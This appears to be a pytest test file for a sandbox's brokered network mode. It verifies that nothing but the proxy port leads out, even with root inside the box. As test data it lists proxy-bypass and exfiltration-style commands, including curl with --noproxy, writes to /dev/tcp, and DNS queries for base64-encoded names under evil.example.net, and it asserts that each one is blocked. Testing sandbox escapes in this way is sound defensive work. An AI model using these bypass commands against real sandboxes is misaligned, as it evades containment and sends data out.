# SPDX-License-Identifier: Apache-2.0
"""`network: brokered`, as root inside: nothing but the proxy port leads anywhere, whatever is listed.

The judge is the capture. Every place is listed, so a packet that leaves would reach somebody.
"""

import pytest

from internet.services import echo_tcp, echo_udp

GATEWAY = "gateway.sandgate.internal"


@pytest.fixture
def place(world):
    """An address that answers on every port that is tried, and its name."""
    address, six = world.address(), world.address6()
    for at in address, six:
        for port in (22, 53, 80, 443, 853, 3128, 1080):
            echo_tcp(world, at, port)
        for port in (53, 123, 443):
            echo_udp(world, at, port)
    world.name("all.example.com", address, six)
    return address, six


@pytest.fixture
def box(place, sandgate):
    listed = ",".join(["*.example.com:*", f"{place[0]}:*", f"[{place[1]}]:*"])
    return sandgate.box("--net", "brokered", "--allow", listed, "--as-root")


def test_every_direct_way_is_shut(world, place, box):
    """TCP, UDP, lookups and echoes, to what is listed by address and by name, also after the proxy
    port has led there."""
    probe = """
out = {}
for a in sys.argv[1:]:
    out[a] = [[p for p in (22, 80, 443, 853, 3128, 1080) if try_dial(a, p, 2)[0] == "connected"],
              [p for p in (123, 443) if ask_udp(a, p, b"secret", 0.5)[0]]]
asked = [dns_rcode(ask_udp(a, 53, dns_question("all.example.com", kind))[0])
         for a in (*sys.argv[1:], "192.0.0.1", "8.8.8.8") for kind in (1, 28, 16, 65)]
report(out=list(out.values()), asked=asked)
"""
    world.start_watching()
    for _ in range(2):
        got = box.python(probe, *place, timeout=60).json
        assert got["out"] == [[[], []]] * 2 and set(got["asked"]) == {5}, got
        for address in place:
            assert not box.run(["ping", "-c1", "-W1", address]).ok
        assert world.left_the_host(dns=True) == []
        got = box.python("""
s = dial("gateway.sandgate.internal", 3128)
s.sendall(b"CONNECT all.example.com:22 HTTP/1.0\\r\\n\\r\\nthrough")
report(r=read_all(s, 46).decode())
""")
        assert got.json["r"].startswith("HTTP/1.1 200 "), got
        world.start_watching()


@pytest.mark.parametrize("command", [
    "curl -sk -m5 --noproxy '*' https://all.example.com/", "curl -sk -m5 --noproxy '*' https://{4}/",
    "curl -sk -m5 --noproxy '*' --resolve all.example.com:443:{4} https://all.example.com/",
    "curl -sk -m5 -x http://{4}:3128 https://all.example.com/",
    "curl -sk -m5 --socks5 {4}:1080 http://all.example.com/",
    "env -i curl -sk -m5 --doh-url https://{4}/dns-query http://all.example.com/",
    "curl -sk -m5 --socks4 gateway.sandgate.internal:1080 http://{4}/",
    "env -i wget -q -T3 -t1 -O- http://all.example.com/", "ping -c1 -W1 all.example.com",
    "dig +tries=1 +time=2 @{4} secret.example.net", "dig +tries=1 +time=2 +tcp @{4} secret.example.net",
    "bash -c 'echo secret > /dev/tcp/{4}/80'", "bash -c 'echo secret > /dev/udp/{4}/123'",
])
def test_clients_that_leave_the_proxy_out(world, place, box, command):
    """nono#713 (`curl --noproxy`): the base does not depend on the client's goodwill."""
    world.start_watching()
    got = box.run(command.replace("{4}", place[0]), timeout=30)
    assert got.seconds < 8, got
    assert world.left_the_host(dns=True) == []


def test_a_refused_name_asks_nobody(world, box):
    """What the proxy port refuses leaves as little as a lookup that is refused."""
    world.start_watching()
    box.python("""
for host in ("c2VjcmV0.evil.example.net", "secret.evil.net", "all.example.com.evil.net", "8.8.8.8", "secret"):
    s = dial("gateway.sandgate.internal", 3128)
    s.sendall(f"CONNECT {host}:443 HTTP/1.0\\r\\n\\r\\n".encode())
    assert b" 403 " in read_all(s), host
    s = dial("gateway.sandgate.internal", 1080)
    name = host.encode()
    s.sendall(b"\\5\\1\\0\\5\\1\\0\\3" + bytes([len(name)]) + name + b"\\1\\xbb")
    assert read_all(s)[3:4] == b"\\2", host
report(ok=True)
""").json
    assert world.zone.queries == [] and world.left_the_host(dns=True) == []


def test_the_proxy_port_is_nobody_elses(world, box, sandgate):
    """It is on the gate's own address only, and no sandbox reaches another's."""
    other = sandgate.box("--net", "deny", "--as-root")
    code = """
report(r=[try_dial(a, p, 2)[0] for p in (3128, 1080) for a in ("127.0.0.1", "::1", "192.0.0.2", "192.0.0.3")])
"""
    assert set(other.python(code).json["r"]) <= {"ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "timeout"}
    assert "3128" not in world.machine.run("ss -Hltn").stdout
